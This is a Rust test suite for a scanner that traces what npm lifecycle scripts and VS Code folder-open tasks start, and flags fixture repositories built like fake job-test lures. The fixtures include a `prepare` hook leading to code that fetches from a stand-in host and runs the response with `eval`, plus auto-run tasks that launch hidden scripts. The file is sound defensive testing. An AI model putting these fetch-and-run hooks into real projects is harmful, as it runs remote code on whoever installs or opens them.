//! The table of what starts code, row by row: a trigger, an inert sample that uses it, and what has to be said of it.
//!
//! A trap is the trigger with a loader at its end: the finding must name the loader's file, at the trigger's moment, by a
//! way that begins at the trigger. Its honest twin uses the same trigger and passes, and `lurescan triggers` tells of both.

use std::fs;
use std::path::Path;

use lurescan::finding::{Report, Started, Told, Verdict};
use lurescan::mechanism;
use lurescan::report::triggers::{Format, object, text};
use lurescan::report::{Style, write};
use lurescan::scan::{Detail, Options, Unobserved, scan};
use lurescan::source::Target;

use crate::case::ENGINE;
use crate::hostile::lurescan;

mod rows;

use rows::{LOADER, ROWS, Row};

/// Lays a row out and scans it.
fn scanned(files: &[(&str, &str)]) -> Report {
    let folder = tempfile::tempdir().expect("a temporary folder");
    lay_out(folder.path(), files);
    let options = Options { threads: 1, detail: Detail::Triggers, ..Options::default() };
    scan("case", &Target::Path(folder.path().to_owned()), &ENGINE, &options, &Unobserved).expect("it is scanned")
}

fn lay_out(folder: &Path, files: &[(&str, &str)]) {
    for (path, content) in files {
        let path = folder.join(path);
        fs::create_dir_all(path.parent().expect("a folder")).expect("written");
        fs::write(path, if *content == "LOADER" { LOADER } else { content }).expect("written");
    }
}

fn complaint(row: &Row, report: &Report) -> Option<String> {
    let overview = report.overview.as_ref().expect("it was asked for");
    let fits = |started: &&Started| {
        started.kind == row.kind && started.path == row.files[0].0 && started.command.contains(row.command)
    };
    let Some(started) = overview.triggers.iter().find(fits) else {
        let known: Vec<String> =
            overview.triggers.iter().map(|s| format!("{} {} `{}`", s.kind, s.path, s.command)).collect();
        return Some(format!("{}: the trigger is not told, only {known:#?}", row.name));
    };
    if started.moment.word() != row.moment {
        return Some(format!("{}: at {}, and not at {}", row.name, started.moment, row.moment));
    }
    let said: Vec<String> = report
        .findings
        .iter()
        .filter(|f| f.decides < Verdict::Incomplete)
        .map(|f| {
            format!("{} {} {:?} by {:?}", f.rule, f.path, f.moment, f.chain.iter().map(|s| &s.path).collect::<Vec<_>>())
        })
        .collect();
    if report.verdict != row.verdict {
        return Some(format!(
            "{}: {:?}, and not {:?}: {said:#?} {:?} {:?}",
            row.name, report.verdict, row.verdict, started, report.gaps
        ));
    }
    let Some(named) = row.named else {
        return (row.verdict == Verdict::Pass && started.told != Told::Harmless)
            .then(|| format!("{}: not harmless: {started:#?}", row.name));
    };
    let way = report.findings.iter().find(|f| {
        let first = f.chain.first().map(|step| step.path.as_str());
        f.path == named
            && f.decides < Verdict::Incomplete
            && f.moment.is_some_and(|moment| moment.word() == row.moment)
            && first == Some(row.files[0].0)
            && f.chain.last().map(|step| step.path.as_str()) == Some(named)
    });
    if way.is_none() {
        return Some(format!(
            "{}: no finding names {named} at {} from {}: {said:#?}",
            row.name, row.moment, row.files[0].0
        ));
    }
    let mark = if row.verdict == Verdict::Block { Told::Block } else { Told::Review };
    (started.told != mark).then(|| format!("{}: the overview says {:?}: {started:#?}", row.name, started.told))
}

#[test]
fn every_trigger_has_its_moment_its_command_its_verdict_and_its_way() {
    let complaints: Vec<String> = ROWS.iter().filter_map(|row| complaint(row, &scanned(row.files))).collect();
    assert!(ROWS.len() >= 60, "{} rows", ROWS.len());
    assert!(complaints.is_empty(), "{} of {} rows:\n{}", complaints.len(), ROWS.len(), complaints.join("\n"));
}

#[test]
fn every_mechanism_has_a_name_of_its_own_and_says_where_it_is_written() {
    let mut ids: Vec<&str> = mechanism::all().map(|row| row.id).collect();
    let count = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), count);
    for row in mechanism::all() {
        assert!(!row.source.is_empty() && !row.starts.is_empty() && !row.by.is_empty(), "{}", row.id);
    }
}

#[test]
fn the_way_from_npm_install_to_the_loader_is_told_step_by_step_in_every_format() {
    let report = scanned(&[
        ("package.json", r#"{"scripts": {"prepare": "node server/server.js"}}"#),
        ("server/server.js", "const auth = require('./routes/api/auth');\nauth();\n"),
        (
            "server/routes/api/auth.js",
            "const axios = require('axios');\nmodule.exports = () => axios.get('https://lure.invalid/b/1').then((r) => eval(r.data.cookie));\n",
        ),
    ]);
    let finding = report.findings.iter().find(|f| f.rule == "js-fetch-to-code").expect("it is found");
    let way: Vec<(&str, u32, &str)> =
        finding.chain.iter().map(|step| (step.path.as_str(), step.line, step.excerpt.as_str())).collect();
    assert_eq!(way[0], ("package.json", 1, "node server/server.js"));
    assert_eq!((way[1].0, way[1].1, way[1].2), ("server/server.js", 1, "./routes/api/auth"));
    assert_eq!(way.last().map(|step| step.0), Some("server/routes/api/auth.js"));
    assert!(way.iter().all(|step| !step.2.is_empty()), "{way:#?}");
    let human = lurescan::report::human::page(&report, &Style::default());
    let mut sarif = Vec::new();
    write(&report, lurescan::report::Format::Sarif, &Style::default(), &mut sarif).expect("memory takes it all");
    let sarif = String::from_utf8(sarif).expect("UTF-8");
    let record = lurescan::report::ndjson::record(&report).to_string();
    for shown in [&human, &sarif, &record] {
        for step in ["npm prepare", "node server/server.js", "./routes/api/auth"] {
            assert!(shown.contains(step), "{step} in {shown}");
        }
    }
    let log: serde_json::Value = serde_json::from_str(&sarif).expect("JSON");
    let results = log["runs"][0]["results"].as_array().expect("results");
    let result = results.iter().find(|r| r["ruleId"] == "js-fetch-to-code").expect("it is there");
    let steps = result["codeFlows"][0]["threadFlows"][0]["locations"].as_array().expect("a code flow");
    assert!(steps.len() >= 3, "{steps:#?}");
    let address = |step: &serde_json::Value| step["location"]["physicalLocation"]["artifactLocation"]["uri"].clone();
    assert_eq!(address(&steps[0]), "package.json");
    assert_eq!(steps[0]["location"]["physicalLocation"]["region"]["snippet"]["text"], "node server/server.js");
}

#[test]
fn ends_that_lead_nowhere_are_named_for_what_they_are() {
    let report = scanned(&[
        ("package.json", r#"{"scripts": {"start": "node server.js && node tools/missing.js && npx some-tool"}}"#),
        ("server.js", "require('express');\nrequire('./gone');\nconst n = process.argv[2];\nrequire(n);\n"),
    ]);
    let overview = report.overview.expect("it was asked for");
    let start = overview.triggers.iter().find(|s| s.kind == "npm-start").expect("it is told");
    let ends: Vec<(&str, &str)> = start.ends.iter().map(|end| (end.what.as_str(), end.name.as_str())).collect();
    for end in [("absent", "tools/missing.js"), ("absent", "./gone"), ("fetched", "express"), ("fetched", "some-tool")]
    {
        assert!(ends.contains(&end), "{end:?} in {ends:?}");
    }
    assert!(ends.iter().any(|end| end.0 == "computed"), "{ends:?}");
}

#[test]
fn an_automatic_start_whose_target_is_absent_asks_for_a_look() {
    let tasks =
        r#"{"tasks": [{"label": "env", "command": "bash .hidden/setup.sh", "runOptions": {"runOn": "folderOpen"}}]}"#;
    let report = scanned(&[(".vscode/tasks.json", tasks), ("index.js", "console.log(1);\n")]);
    assert_eq!(report.verdict, Verdict::Review, "{:#?}", report.findings);
    assert!(report.findings.iter().any(|f| f.rule == "absent-target" && f.path == ".vscode/tasks.json"));
    let built =
        r#"{"tasks": [{"label": "watch", "command": "node dist/watch.js", "runOptions": {"runOn": "folderOpen"}}]}"#;
    assert_eq!(scanned(&[(".vscode/tasks.json", built), ("index.js", "console.log(1);\n")]).verdict, Verdict::Pass);
}

#[test]
fn the_overview_is_a_table_for_a_person_and_for_programs() {
    let honest = ROWS.iter().find(|row| row.name.contains("real watch task")).expect("it is in the table");
    let report = scanned(honest.files);
    for (format, marks) in [
        (Format::Human, ["What runs, and when", "asks once whether the folder is trusted", "1.109"]),
        (Format::Markdown, ["| what | where |", "npm run watch", "1.109"]),
        (Format::Json, ["\"kind\": \"vscode-task-folder-open\"", "\"told\": \"harmless\"", "1.109"]),
    ] {
        let shown = text(&report, format, &Style::default()).expect("it is written");
        for mark in marks {
            let flat = shown.replace("\n    ", " ");
            assert!(flat.contains(mark), "{mark} in {shown}");
        }
    }
}

#[test]
fn the_overview_keeps_to_its_schema() {
    let schema = fs::read_to_string("schema/triggers.schema.json").expect("the schema is in the repository");
    let schema: serde_json::Value = serde_json::from_str(&schema).expect("JSON");
    let validator = jsonschema::validator_for(&schema).expect("a schema");
    for row in ROWS.iter().take(12) {
        let report = scanned(row.files);
        let value = object(&report, report.overview.as_ref().expect("it was asked for"));
        let errors: Vec<String> =
            validator.iter_errors(&value).map(|e| format!("{e} at {}", e.instance_path())).collect();
        assert!(errors.is_empty(), "{}: {errors:?}", row.name);
    }
}

#[test]
fn the_command_prints_the_overview_and_ends_well_whatever_was_found() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    lay_out(folder.path(), &[("package.json", r#"{"scripts": {"postinstall": "node x.js"}}"#), ("x.js", "LOADER")]);
    let output = lurescan().arg("triggers").arg(folder.path()).output().expect("the program starts");
    let shown = String::from_utf8(output.stdout).expect("UTF-8");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(shown.contains("postinstall") && shown.contains("BLOCK: js-fetch-to-code"), "{shown}");
    let output = lurescan().args(["debug", "graph"]).arg(folder.path()).output().expect("the program starts");
    let shown = String::from_utf8(output.stdout).expect("UTF-8");
    assert!(shown.contains("package.json (npm postinstall) -> x.js"), "{shown}");
}

#[test]
fn what_stands_around_is_told_beside_code_and_never_weighed() {
    let readme = (
        "README.md",
        "# Coding test\n\nYou have 2 hours. Do not use docker. Run npm install, then share your screen.\n",
    );
    let log = (".git/logs/HEAD", "0 1 A B <ab+3@gmail.com> 1700000000 +0900\tcommit (initial): first\n");
    let honest = scanned(&[readme, log, ("index.js", "console.log(1);\n")]);
    assert_eq!((honest.verdict, honest.around.len()), (Verdict::Pass, 0));
    let lure =
        scanned(&[readme, log, ("package.json", r#"{"scripts": {"postinstall": "node x.js"}}"#), ("x.js", "LOADER")]);
    let alone = scanned(&[("package.json", r#"{"scripts": {"postinstall": "node x.js"}}"#), ("x.js", "LOADER")]);
    assert_eq!((lure.verdict, &lure.findings.len()), (alone.verdict, &alone.findings.len()));
    let says: Vec<&str> = lure.around.iter().map(|note| note.says.as_str()).collect();
    for part in
        ["a job test", "a deadline", "a container", "the screen", "`npm install`", "same mailbox", "one first commit"]
    {
        assert!(says.iter().any(|line| line.contains(part)), "{part} in {says:?}");
    }
    let page = lurescan::report::human::page(&lure, &Style::default());
    assert!(page.contains("Around it (decides nothing)"), "{page}");
}

#[test]
fn text_of_the_target_cannot_break_the_markdown_table() {
    let report = scanned(&[("package.json", "{\"scripts\": {\"start\": \"echo a | cat; echo '<b>`x`</b>' @x\"}}")]);
    let shown = text(&report, Format::Markdown, &Style::default()).expect("it is written");
    let row = shown.lines().find(|line| line.contains("npm start")).expect("the row is there");
    assert_eq!(row.replace("\\|", "").matches('|').count(), 7, "{row}");
    assert!(!row.contains("<b>") && !row.contains(" @x"), "{row}");
}
